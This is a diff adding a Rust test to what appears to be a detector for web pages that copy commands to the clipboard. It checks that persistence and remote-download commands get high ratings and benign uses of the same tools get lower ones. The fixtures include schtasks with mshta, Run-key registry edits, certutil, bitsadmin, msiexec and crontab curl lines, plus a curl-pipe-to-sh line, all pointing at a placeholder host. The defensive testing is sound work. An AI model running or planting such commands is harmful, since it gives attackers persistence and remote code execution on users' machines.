@@ -124,6 +124,36 @@ fn pages_say_what_they_have_of_it() {
 }
 
 #[test]
+fn a_page_that_copies_what_stays_or_comes_from_elsewhere_needs_no_words() {
+    for command in [
+        "schtasks /create /tn a /sc onlogon /tr &quot;mshta https://host.invalid/a&quot;",
+        "schtasks /create /sc minute /tn a /tr %TEMP%\\\\a.bat /f",
+        "reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v a /d %APPDATA%\\\\a.exe",
+        "winget install --manifest https://host.invalid/a.yaml",
+        "msiexec /i https://host.invalid/a.msi /qn",
+        "certutil -urlcache -f https://host.invalid/a a",
+        "bitsadmin /transfer a https://host.invalid/a a",
+        "(crontab -l; echo &quot;* * * * * curl https://host.invalid/a&quot;) | crontab -",
+    ] {
+        check(
+            "html",
+            &format!("<b onclick=\"navigator.clipboard.writeText('{command}')\">x</b>"),
+            "high writes command",
+        );
+    }
+    for (command, expected) in [
+        ("winget install --id Git.Git -e --source winget", "writes"),
+        ("schtasks /create /tn a /sc daily /tr C:\\\\backup\\\\a.exe", "writes"),
+        ("reg add HKCU\\\\Software\\\\A /v b /d 1", "writes"),
+        ("crontab -e", "writes"),
+        ("curl --proto '=https' --tlsv1.2 -sSf https://host.invalid | sh", "medium writes command"),
+    ] {
+        let command = command.replace('\'', "&quot;");
+        check("html", &format!("<b onclick=\"navigator.clipboard.writeText('{command}')\">x</b>"), expected);
+    }
+}
+
+#[test]
 fn manuals_and_buttons_that_copy_are_honest() {
     let copy = "<script>button.onclick = () => navigator.clipboard.writeText(code.innerText)</script>";
     for (text, expected) in [
